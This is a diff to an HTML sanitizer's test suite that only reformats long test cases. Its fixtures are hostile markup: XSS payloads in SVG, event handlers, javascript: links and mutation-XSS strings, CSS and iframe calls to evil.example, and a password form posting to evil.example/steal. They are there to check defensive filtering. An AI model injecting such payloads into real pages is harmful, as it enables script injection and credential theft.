@@ -26,12 +26,18 @@ describe("hostile patterns", () => {
     ["vbscript and data links", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`],
     ["SVG with script", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5"/></svg>`],
     ["SVG animate", `<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:alert(1)"/></svg>`],
-    ["CSS url() and @import", `<div style="background:url(https://evil.example/a.png);color:red">a</div><style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>`],
+    [
+      "CSS url() and @import",
+      `<div style="background:url(https://evil.example/a.png);color:red">a</div><style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>`,
+    ],
     ["CSS expression and escapes", `<div style="width:expression(alert(1))">a</div><div style="background:u\\72l(https://evil.example/x)">b</div>`],
     ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>`],
     ["base and link", `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>x</p>`],
     ["forms", `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example">Send</button></form>`],
-    ["nested iframes", `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`],
+    [
+      "nested iframes",
+      `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
+    ],
     ["mXSS: noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
     ["mXSS: math/mglyph/style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
     ["mXSS: svg/p/style", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
@@ -132,7 +138,9 @@ describe("links and layout", () => {
   test("quoted font names survive; a quote cannot end the attribute; entity-spelt url() is still a url()", () => {
     const { html } = blocked(`<p style="font-family:'Helvetica Neue',Arial;color:red">x</p><p style='font-family:"a\\" onmouseover=x"'>y</p><p style="background:u&#114;l(https://e.example/x)">z</p>`);
     expect(html).toBe(`<p style="font-family:'Helvetica Neue',Arial;color:red">x</p><p>y</p><p>z</p>`);
-    expect(blocked(`<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td style="background:#fff url(https://e.example/bg.png)">b</td>`).html).toBe(`<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td>b</td>`);
+    expect(blocked(`<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td style="background:#fff url(https://e.example/bg.png)">b</td>`).html).toBe(
+      `<td style="background:#f4f4f4;border-top-color:#ccc">a</td><td>b</td>`,
+    );
   });
 
   test("relative and fragment links lose their target", () => {
@@ -140,7 +148,11 @@ describe("links and layout", () => {
   });
 
   test("ordinary newsletter markup keeps its text, tables and safe styles", () => {
-    const { html } = blocked(`<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px;position:fixed">Hallo <b>Welt</b></td></tr></table><p class="x" id="y">Text</p>`);
-    expect(html).toBe(`<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px">Hallo <b>Welt</b></td></tr></table><p>Text</p>`);
+    const { html } = blocked(
+      `<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px;position:fixed">Hallo <b>Welt</b></td></tr></table><p class="x" id="y">Text</p>`,
+    );
+    expect(html).toBe(
+      `<table width="600" cellpadding="0" align="center" style="border-collapse:collapse;background-color:#fff"><tr><td style="font-family:Arial,sans-serif;color:#333;padding:10px">Hallo <b>Welt</b></td></tr></table><p>Text</p>`,
+    );
   });
 });
